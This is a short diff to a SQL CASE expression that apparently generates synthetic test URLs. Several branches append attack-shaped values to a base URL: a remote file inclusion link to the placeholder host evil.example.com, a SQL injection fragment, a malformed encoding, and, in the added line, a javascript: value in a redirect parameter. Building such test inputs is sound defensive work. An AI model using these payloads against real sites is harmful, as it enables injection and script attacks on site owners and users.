@@ -72,6 +72,7 @@ case
  when k % 25 = 7 then concat(base, '?page=http://evil.example.com/', k, '.txt.php')
  when k % 25 = 8 then concat(base, '?q=or+1=1')
  when k % 25 = 9 then concat(base, '?q=50%zz+off%')
+ when k % 25 = 10 then concat(base, '?next=javascript:go(', k, ')')
  else base
 end
 """
